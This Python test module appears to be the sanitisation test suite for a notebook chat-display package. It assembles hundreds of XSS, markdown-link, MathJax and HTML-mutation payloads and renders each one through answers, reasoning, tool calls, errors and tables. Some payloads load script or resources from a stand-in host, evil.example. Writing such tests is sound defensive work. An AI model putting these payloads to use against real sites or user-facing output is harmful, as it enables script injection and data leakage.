"""What a hostile model might answer: each piece sets `window.pwned` or fetches, if it can."""

MARKER = "pwned"
RUN = f"window.{MARKER}=1"
AWAY = "http://evil.example"

HTML = [
    f"<img src=x onerror={RUN}>",
    f"<img src=x onerror={RUN}//",
    f"<IMG SRC=x ONERROR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src={AWAY}/html.png>",
    f"<script>{RUN}</script>",
    f"<script src={AWAY}/a.js></script>",
    f"</script><script>{RUN}</script>",
    f"</textarea><script>{RUN}</script>",
    f"</style></title></pre></code><img src=x onerror={RUN}>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<![CDATA[<img src=x onerror={RUN}>]]>",
    f"<?xml version='1.0'?><img src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<math><mtext><style><img src=x onerror={RUN}></style></mtext></math>",
    f"<math href='javascript:{RUN}'>x</math>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<object data='javascript:{RUN}'></object>",
    f"<embed src='{AWAY}/e'>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<audio src=x onerror={RUN}>",
    f"<input autofocus onfocus={RUN}>",
    f"<style>@import '{AWAY}/a.css';</style>",
    f"<link rel=stylesheet href={AWAY}/b.css>",
    f"<meta http-equiv=refresh content='0;url={AWAY}'>",
    f"<base href={AWAY}>",
    f"<form action=javascript:{RUN}><button>x</button></form>",
    f"<div style='background:url({AWAY}/s.png)'>x</div>",
    f"<a href='javascript:{RUN}'>x</a>",
    f"\x00<img src=x onerror={RUN}>",
    f"<\x00img src=x onerror={RUN}>",
    f"＜img src=x onerror={RUN}＞",
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#60;img src=x onerror={RUN}&#62;",
]

LINKS = [
    f"[click](javascript:{RUN})",
    f"[click](JaVaScRiPt:{RUN})",
    f"[click](javascript&colon;{RUN})",
    f"[click](javascript&#58;{RUN})",
    f"[click](java&#115;cript:{RUN})",
    f"[click](java&Tab;script:{RUN})",
    f"[click](java&NewLine;script:{RUN})",
    f"[click](&#1;javascript:{RUN})",
    f"[click](\x01javascript:{RUN})",
    f"[click](javascript\\:{RUN})",
    f"[click](<javascript:{RUN}>)",
    f"[click]( javascript:{RUN} )",
    f"[click](javascript://%0a{RUN})",
    f"[click](vbscript:{RUN})",
    f"[click](data:text/html,<script>{RUN}</script>)",
    "[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cucHduZWQ9MTwvc2NyaXB0Pg==)",
    "[click](file:///etc/passwd)",
    f"[click](blob:{AWAY}/1)",
    f"[click][ref]\n\n[ref]: javascript:{RUN}",
    f"[ref2]\n\n[ref2]: javascript:{RUN} 'x'",
    f"<javascript:{RUN}>",
    f'[click](https://ok.example/"onmouseover="{RUN})',
    f"[click](https://ok.example 'x\" onmouseover=\"{RUN}')",
    f"![alt](javascript:{RUN})",
    f"![alt]({AWAY}/image.png)",
    f"![alt][image]\n\n[image]: {AWAY}/reference.png",
    f'![x" onerror="{RUN}]({AWAY}/attribute.png)',
    f"[![alt]({AWAY}/nested.png)](javascript:{RUN})",
]

MATH = [
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$$\href{{javascript:{RUN}}}{{x}}$$",
    rf"\(\href{{javascript:{RUN}}}{{x}}\)",
    "\\[\n" + rf"\href{{javascript:{RUN}}}{{x}}" + "\n\\]",
    rf"\begin{{align}}\href{{javascript:{RUN}}}{{x}}\end{{align}}",
    rf"$\url{{javascript:{RUN}}}$",
    rf"$\style{{background:url({AWAY}/math.png)}}{{x}}$",
    rf"$\bbox[background:url({AWAY}/bbox.png)]{{x}}$",
    r"$\class{jp-Dialog}{x}$",
    r"$\cssId{main}{x}$",
    r"$\require{html}\href{javascript:window.pwned=1}{x}$",
    r"$\unicode[serif;background:red]{65}$",
    r"$\def\frac{\bad}$",
    r"$\gdef\sum{\bad}$",
    r"$\newcommand{\frac}{\bad}$",
    r"$\let\sum\int$",
    r"$\mmlToken{mi}[href='javascript:window.pwned=1']{x}$",
    rf"$\text{{<img src=x onerror={RUN}>}}$",
    rf"$<img src=x onerror={RUN}>$",
]

STRUCTURE = [
    f"```html\n<img src=x onerror={RUN}>\n```",
    f'```"><img src=x onerror={RUN}>\nx\n```',
    f"``` python onclick={RUN}\nx\n```",
    f"~~~\n<script>{RUN}</script>\n~~~",
    f"    <img src=x onerror={RUN}>",
    f"`<img src=x onerror={RUN}>`",
    f"`` `<img src=x onerror={RUN}> ``",
    f"| a |\n|---|\n| <img src=x onerror={RUN}> |",
    f"- <img src=x onerror={RUN}>\n  - ```\n    <img src=x onerror={RUN}>\n    ```",
    f"> ```\n> x\n<img src=x onerror={RUN}>",
    f"# <img src=x onerror={RUN}>",
    f"**<img src=x onerror={RUN}>**",
    f"~~<img src=x onerror={RUN}>~~",
    "\u202e<gnp.x=crs gmi>\u202c",
    "\ud800<img src=x onerror=window.pwned=1>",
]

EVENTS = [
    f"<{element} {event}={quote}{RUN}{quote}{end}"
    for element, event in [
        *(("a", "onclick"), ("a href=x", "onmouseover"), ("abbr", "onpointerenter")),
        *(("address", "onwheel"), ("article", "oncopy"), ("b", "onmouseenter")),
        *(("blockquote", "oncut"), ("button", "onfocus"), ("canvas", "onmousemove")),
        *(("code", "onmouseover"), ("details open", "ontoggle"), ("dialog open", "onclose")),
        *(("div style=animation:x", "onanimationstart"), ("div contenteditable", "oninput")),
        *(("div draggable=true", "ondragstart"), ("div popover", "onbeforetoggle")),
        *(("em", "onpaste"), ("fieldset", "onkeydown"), ("figure", "onclick")),
        *(("frameset", "onload"), ("h1", "ongotpointercapture"), ("hr", "onscroll")),
        *(("iframe", "onload"), ("image src=x", "onerror"), ("img srcset=x", "onerror")),
        *(("input autofocus", "onfocus"), ("keygen autofocus", "onfocus"), ("label", "onclick")),
        *(("li", "onmouseover"), ("link rel=stylesheet href=x", "onerror")),
        *(("marquee", "onstart"), ("meter", "onclick"), ("object data=x", "onerror")),
        *(("ol", "onmouseover"), ("p", "onauxclick"), ("picture", "onload")),
        *(("pre", "oncontextmenu"), ("section", "onfocusin tabindex=1 autofocus")),
        *(("select autofocus", "onfocus"), ("slot", "onslotchange"), ("source", "onerror")),
        *(("span", "onmouseover"), ("strong", "ondblclick"), ("style", "onload")),
        *(("summary", "onclick"), ("svg", "onload"), ("svg><animate", "onbegin")),
        *(("svg><image href=x", "onerror"), ("svg><set attributeName=x", "onbegin")),
        *(("svg><use", "onload"), ("table", "onmouseover"), ("td", "onmouseover")),
        *(("template", "onclick"), ("textarea autofocus", "onfocus"), ("track", "onerror")),
        *(("ul", "onmouseover"), ("video autoplay src=x", "onerror"), ("x", "onclick")),
    ]
    for quote, end in [("'", ">x"), ('"', "/>")]
]
NAMES = [
    f'"><img src=x onerror={RUN}>',
    f"'><img src=x onerror={RUN}>",
    f"' onmouseover={RUN} x='",
    f'" onmouseover={RUN} x="',
    f"` onmouseover={RUN} x=`",
    f"-->  <img src=x onerror={RUN}>",
    f"]]><img src=x onerror={RUN}>",
    f"*/</style><img src=x onerror={RUN}>",
    f"';{RUN};'",
    f'";{RUN};"',
    f"\\';{RUN};//",
    f"${{{RUN}}}",
    f"{{{{{RUN}}}}}",
    f"<%={RUN}%>",
    f"</summary></details><img src=x onerror={RUN}>",
    f"</td></tr></table><img src=x onerror={RUN}>",
    f"</strong></div></div><img src=x onerror={RUN}>",
    f"</code></pre><img src=x onerror={RUN}>",
    f"</iframe><img src=x onerror={RUN}>",
    f'"></iframe><script>{RUN}</script>',
    f"&quot;&gt;&lt;img src=x onerror={RUN}&gt;",
    f"```\n<img src=x onerror={RUN}>\n```",
    f"~~~\n<img src=x onerror={RUN}>\n~~~",
    f"x\n\n<img src=x onerror={RUN}>\n\ny",
    f"x\r<img src=x onerror={RUN}>",
    f"x\u2028<img src=x onerror={RUN}>",
    f"``` <img src=x onerror={RUN}>",
    f"\\```\n<img src=x onerror={RUN}>",
    f"    <img src=x onerror={RUN}>",
    f"<!doctype html><html><body onload={RUN}>",
    f"<xmp><img src=x onerror={RUN}></xmp>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<select><style><img src=x onerror={RUN}></style></select>",
    f"<table><td><svg><desc><img src=x onerror={RUN}></desc></svg></table>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><title><img src=x onerror={RUN}></title></svg>",
    f"<svg><a href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><a xlink:href='javascript:{RUN}'><text>x</text></a></svg>",
    f"<svg><use href='data:image/svg+xml,<svg onload={RUN}>#x'/></svg>",
    f"<svg><feImage href='{AWAY}/fe.png'/></svg>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
    f"<math><mi xlink:href='javascript:{RUN}'>x</mi></math>",
    f"<math><mglyph src='{AWAY}/glyph.png'/></math>",
    f"<a href='&#106;avascript:{RUN}'>x</a>",
    f"<a href='java\tscript:{RUN}'>x</a>",
    f"<a href='data:text/html,<script>{RUN}</script>'>x</a>",
    f"<a href=x ping={AWAY}/ping>x</a>",
    f"<area href='javascript:{RUN}'>",
    f"<button form=x formaction='javascript:{RUN}'>x</button>",
    f"<input type=image src={AWAY}/input.png formaction='javascript:{RUN}'>",
    f"<isindex action='javascript:{RUN}'>",
    f"<body background={AWAY}/body.png>",
    f"<table background={AWAY}/table.png><td>x</td></table>",
    f"<video poster={AWAY}/poster.png></video>",
    f"<audio src={AWAY}/a.mp3 autoplay></audio>",
    f"<picture><source srcset={AWAY}/p.png><img></picture>",
    f"<img srcset='{AWAY}/s.png 1x'>",
    f"<img lowsrc={AWAY}/l.png dynsrc={AWAY}/d.png>",
    f"<link rel=preload as=image href={AWAY}/preload.png>",
    f"<link rel=preconnect href={AWAY}>",
    f"<link rel=dns-prefetch href={AWAY}>",
    f"<link rel=icon href={AWAY}/icon.png>",
    f"<link rel=prefetch href={AWAY}/prefetch>",
    f"<script type=module>import '{AWAY}/m.js'</script>",
    f'<script type=speculationrules>{{"prefetch":[{{"urls":["{AWAY}/s"]}}]}}</script>',
    f"<style>*{{background:url({AWAY}/css.png)}}</style>",
    f"<style>@font-face{{font-family:x;src:url({AWAY}/f.woff)}}*{{font-family:x}}</style>",
    f"<div style=\"background-image:image-set('{AWAY}/set.png' 1x)\">x</div>",
    f"<div style='list-style:url({AWAY}/list.png);display:list-item'>x</div>",
    f"<div style='content:url({AWAY}/content.png)'>x</div>",
    f"<div style='cursor:url({AWAY}/cursor.cur),auto'>x</div>",
    f"<div style='mask:url({AWAY}/mask.svg)'>x</div>",
    f"<div style='width:expression({RUN})'>x</div>",
    f"<object type=text/html data={AWAY}/o.html></object>",
    f"<iframe src={AWAY}/i.html></iframe>",
    f"<iframe src='data:text/html,<script>parent.{RUN}</script>'></iframe>",
    f"<iframe name='{RUN}' src='javascript:eval(name)'></iframe>",
    f"<form id=x></form><button form=x formaction={AWAY}>x</button>",
    f"<form action={AWAY}/form><input name=x autofocus></form>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=set-cookie content='x={MARKER}'>",
    f"<base href='javascript:/{RUN}//'><a href=#>x</a>",
    f"<portal src={AWAY}/portal></portal>",
    f"<fencedframe src={AWAY}/fenced></fencedframe>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<img id=getElementById name=pwned src=x onerror={RUN}>",
    f"<plaintext><img src=x onerror={RUN}>",
]
MORE_LINKS = [
    *(
        f"[x]({scheme}{RUN})"
        for scheme in [
            *("javascript:", "JAVASCRIPT:", "\tjavascript:", "java\tscript:", "javascript\t:"),
            *("javascript&colon;", "&#x6A;avascript:", "jav&#x0A;ascript:", "\\javascript:"),
            *("javascript:/**/", "javascript://https://ok.example/%0a", "feed:javascript:"),
            *("view-source:javascript:", "jar:javascript:", "livescript:", "mocha:", "mhtml:"),
            *("vbscript:", "VBScript:", "wyciwyg:", "chrome:", "about:", "ws:", "intent:"),
            *("data:", "data:text/html;base64,", "data:image/svg+xml,", "data:;,", "DATA:x,"),
            *("blob:", "filesystem:", "file:", "\x00javascript:", "\u00a0javascript:"),
            *("\u200bjavascript:", "%6Aavascript:", "javascript%3A", "//", "/\\"),
        ]
    ),
    f"[x](<java\nscript:{RUN}>)",
    f'[x](  <javascript:{RUN}>  "t")',
    f"![x](data:image/svg+xml,<svg onload={RUN}>)",
    f"![x](//{AWAY.partition('//')[2]}/relative.png)",
    f'![x]({AWAY}/a.png"onerror="{RUN})',
    f"![x]({AWAY}/b.png 't' onerror={RUN})",
    f"![<img src=x onerror={RUN}>]({AWAY}/c.png)",
    f"[<img src=x onerror={RUN}>](https://ok.example)",
    f"[x](https://ok.example/<img/src=x/onerror={RUN}>)",
    f"<https://ok.example/<img/src=x/onerror={RUN}>>",
    f"<mailto:x@x.example?subject=<img/src=x/onerror={RUN}>>",
    f'https://ok.example/"onmouseover="{RUN}',
    f"www.ok.example/'onmouseover='{RUN}",
    f"[a]: javascript:{RUN}\n\n[a] [a][] [x][a]",
    f"[b]: <javascript:{RUN}>\n\n![b]",
    f"[^1]\n\n[^1]: <img src=x onerror={RUN}>",
    f"| [x](javascript:{RUN}) | ![x]({AWAY}/cell.png) |\n|---|---|\n| <svg onload={RUN}> | x |",
    f"|x|\n|:-:onclick={RUN}|\n|x|",
    f"| `|` | <img src=x onerror={RUN}> |\n|--|--|\n| \\| | `<img src=x onerror={RUN}>` |",
    f"<details><summary>x</summary>\n\n[x](javascript:{RUN})\n\n</details>",
]
MORE_MATH = [
    *(
        f"{opening}{command}{closing}"
        for opening, closing in [("$", "$"), ("$$\n", "\n$$"), ("\\(", "\\)")]
        for command in [
            rf"\text{{\href{{javascript:{RUN}}}{{x}}}}",
            rf"\frac{{\href{{javascript:{RUN}}}{{x}}}}{{2}}",
            rf"\\href{{javascript:{RUN}}}{{x}}",
            rf"\Href{{javascript:{RUN}}}{{x}}\href {{javascript:{RUN}}}{{x}}",
            rf"\style{{position:fixed;inset:0;background:url({AWAY}/m.png)}}{{x}}",
            rf"\class{{jp-mod-{MARKER}}}{{x}}\cssId{{{MARKER}}}{{x}}",
            rf"\data{{x={MARKER}}}{{x}}",
            rf"\require{{action}}\toggle{{{MARKER}}}{{y}}\endtoggle",
            rf"\mathtip{{x}}{{{MARKER}}}\texttip{{x}}{{{MARKER}}}",
            rf"\def\x{{\href{{javascript:{RUN}}}{{x}}}}\x",
            rf"\newcommand{{\{MARKER}}}{{\bad}}\{MARKER}",
            rf"\DeclareMathOperator{{\{MARKER}}}{{x}}",
            rf"\Newextarrow{{\{MARKER}}}{{5,5}}{{0x21C4}}",
            rf"\mathtoolsset{{{MARKER}=x}}",
            rf"\includegraphics{{{AWAY}/g.png}}",
            rf"\color{{red;background:url({AWAY}/color.png)}}{{x}}",
            rf"\csname href\endcsname{{javascript:{RUN}}}{{x}}",
        ]
    ),
    f"$$\n\n```\n$$\n<img src=x onerror={RUN}>\n```",
    f"$x$<img src=x onerror={RUN}>$y$",
    f"\\begin{{equation}}\n\\href{{javascript:{RUN}}}{{x}}\n\\end{{equation}}",
    f"```math\n\\href{{javascript:{RUN}}}{{x}}\n```",
    f'```mermaid\ngraph LR\n A-->B\n click A "javascript:{RUN}"\n```',
]

VECTORS = list(
    dict.fromkeys([*HTML, *LINKS, *MATH, *STRUCTURE, *EVENTS, *NAMES, *MORE_LINKS, *MORE_MATH])
)
"""All of them, each harmful by itself where somebody trusts it."""

CORPUS = [*HTML, *LINKS, *MATH, *STRUCTURE]
UNCLOSED = f"```\n</code></pre><img src=x onerror={RUN}>"
ANSWER = "\n\n".join([*CORPUS, "The end.", UNCLOSED])


IN_ANSWERS = ("markdown", "text", "json", "math", "code", "html")
"""Formats of an answer."""

PLACES = (
    *IN_ANSWERS,
    *("reasoning", "tool names", "tool results", "models", "errors", "schemas", "attachments"),
    *("registry", "running models", "machines", "conversations", "turns", "launches", "nothing"),
)
"""Where a hostile text may come out."""


def show(place):
    """Show every vector in a place, as one mime bundle."""
    bundles = list(_BUNDLES.get(place, _answers)(place))
    forms = set.intersection(*map(set, bundles)) & {"text/html", "text/markdown", "text/plain"}
    return {form: "\n\n".join(bundle[form] for bundle in bundles) for form in forms}


def turn(**fields):
    from langchain_core.messages import AIMessage

    from xinference_magics.chat.turn import Turn
    from xinference_magics.display.settled import bundle

    message = AIMessage(fields.pop("text", "x"), additional_kwargs=fields.pop("beside", {}))
    return bundle(Turn(**{"prompt": "x", "message": message, "model_uid": "x", **fields}))


def _answers(form):
    import json

    size = 12 if form == "html" else 1  # frames are slow
    for start in range(0, len(VECTORS), size):
        text = "\n".join(VECTORS[start : start + size])
        given = json.dumps({text: [text]}) if form == "json" else text
        yield turn(text=given, format=form)


def _reasoning(_):
    return [turn(beside={"reasoning_content": vector}) for vector in VECTORS]


def _tools(place):
    from langchain_core.messages import AIMessage, ToolMessage

    for vector in VECTORS:
        name = vector if place == "tool names" else "x"
        call = {"name": name, "args": {name: vector}, "id": "1", "type": "tool_call"}
        result = ToolMessage(vector, tool_call_id="1", status="error")
        yield turn(steps=[AIMessage("", tool_calls=[call]), result])


def _models(_):
    return [turn(model_uid=vector) for vector in VECTORS]


def _errors(_):
    return [turn(status="failed", error=vector) for vector in VECTORS]


def _schemas(_):
    return [turn(parsed={vector: [vector, {vector: vector}]}) for vector in VECTORS]


def _attachments(_):
    for vector in VECTORS:
        block = {"type": "image", "base64": "AAAA", "mime_type": "image/png"}
        yield turn(blocks=[{**block, "extras": {"name": vector}}, {"type": vector}])
        yield turn(blocks=[{**block, "base64": vector}, {**block, "mime_type": vector}])


def _registry(_):
    from xinference_magics.cluster.registrations import Registration
    from xinference_magics.notebook.results.catalog import Registrations

    rows = [
        Registration(name=each, type=each, builtin=False, abilities=(each,), languages=(each,),
                     sizes=(each,), formats=(each,), family=each, description=each)
        for each in VECTORS
    ]  # fmt: skip
    yield Registrations(rows)._repr_mimebundle_()


def _running(_):
    from xinference_magics.cluster.models import RunningModel
    from xinference_magics.notebook.results.models import Models, description

    models = [
        RunningModel(uid=each, name=each, type=each, abilities=(each,), engine=each, format=each,
                     size=each, quantization=each, address=each, family=each, languages=(each,))
        for each in VECTORS
    ]  # fmt: skip
    yield Models(models)._repr_mimebundle_()
    yield description(models[0])


def _machines(_):
    from xinference_magics.cluster.machines import Snapshot, Worker
    from xinference_magics.cluster.models import Event, Instance, ReplicaStatus
    from xinference_magics.notebook.results.machines import Events, Load, Replicas

    replicas = [ReplicaStatus(uid=each, status=each, worker=each, error=each) for each in VECTORS]
    yield Replicas(replicas)._repr_mimebundle_()
    yield Events([Event(None, each, each) for each in VECTORS])._repr_mimebundle_()
    workers = tuple(Worker(each, replicas=(each,), version=each) for each in VECTORS)
    instances = tuple(Instance(each, each, each, tuple(replicas[:2])) for each in VECTORS)
    load = Load(Snapshot(workers, 0.0, instances=instances))
    yield {"text/html": load.html(VECTORS[0]), "text/plain": load.text}


def _conversations(place):
    from langchain_core.messages import AIMessage

    from xinference_magics.chat.conversation import Conversation
    from xinference_magics.chat.turn import Turn
    from xinference_magics.notebook.results.conversations import ConversationRows, TurnRows

    if place == "turns":
        turns = [Turn(each, AIMessage(each), each) for each in VECTORS]
        yield TurnRows(turns)._repr_mimebundle_()
    else:
        named = [Conversation(each, each) for each in VECTORS]
        yield ConversationRows(named)._repr_mimebundle_()


def _launches(_):
    from xinference_magics.display.progress import PageLaunchView, Part
    from xinference_magics.plain import printable

    for each in VECTORS:
        view = PageLaunchView()
        view._title = printable(each)
        yield view._bundle(each, 0.5, [Part(each, each, None, each)])
        yield view._ended(each, ok=False)


def _nothing(_):
    from xinference_magics.display.tables import Column, Table

    for each in VECTORS:
        yield Table([], [], empty=each)._repr_mimebundle_()
        yield Table([1], [Column(each, lambda row: row)], caption=each)._repr_mimebundle_()


_BUNDLES = {
    "reasoning": _reasoning,
    "tool names": _tools,
    "tool results": _tools,
    "models": _models,
    "errors": _errors,
    "schemas": _schemas,
    "attachments": _attachments,
    "registry": _registry,
    "running models": _running,
    "machines": _machines,
    "conversations": _conversations,
    "turns": _conversations,
    "launches": _launches,
    "nothing": _nothing,
}
